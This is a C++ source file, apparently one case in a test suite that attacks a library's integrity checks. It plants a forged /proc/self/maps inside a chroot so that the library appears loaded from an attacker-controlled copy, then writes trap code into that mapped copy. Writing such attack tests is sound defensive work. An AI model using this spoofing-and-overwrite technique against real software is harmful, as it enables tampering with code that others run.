// SPDX-License-Identifier: MIT
// Attack: in the directory that the program has changed its root to, put a file where /proc/self/maps
//   should be, which says that the library was loaded from a file of the attacker's, and write to that
//   file when it is mapped.
// Level: owner of a directory
// Ends: unharmed
// Library: its own copy
// Weakened: descriptor
// Weakened (aarch64): nothing to take away: it is tested under an emulator, which answers that name
#include <sched.h>
#include <sys/stat.h>

#include <string>

#include "attack.h"

namespace attack {
namespace {

void write_file(const char *name, const std::string &text) {
  FILE *const file = fopen(name, "w");
  if (file == nullptr || fwrite(text.data(), text.size(), 1, file) != 1 || fclose(file) != 0)
    end(cannot_try, "cannot write a file");
}

std::string content_of(const char *name) {
  std::string text;
  char buffer[4096];
  FILE *const file = fopen(name, "r");
  if (file == nullptr) end(cannot_try, "cannot read the library");
  for (std::size_t got; (got = fread(buffer, 1, sizeof buffer, file)) != 0;) text.append(buffer, got);
  fclose(file);
  return text;
}

}  // namespace
}  // namespace attack

int main() {
  using namespace attack;
  char folder[] = "root-XXXXXX";
  const std::string library = content_of(getenv("ATTACK_LIBRARY"));
  if (mkdtemp(folder) == nullptr || chdir(folder) != 0 || mkdir("proc", 0755) != 0 ||
      mkdir("proc/self", 0755) != 0)
    end(cannot_try, "cannot make directories");
  write_file("copy", library);
  write_file("proc/self/maps", "0-ffffffffffffffff r-xp 0 00:01 1 /copy\n");
  if (chroot(".") != 0 && (unshare(CLONE_NEWUSER) != 0 || chroot(".") != 0))
    end(cannot_try, "cannot change the root directory");
  const Victim *const victim = victim_in_copy();
  const int file = open("/copy", O_WRONLY);
  write_traps(file, static_cast<unsigned>(library.size() / 4096));
  victim->finish();
}
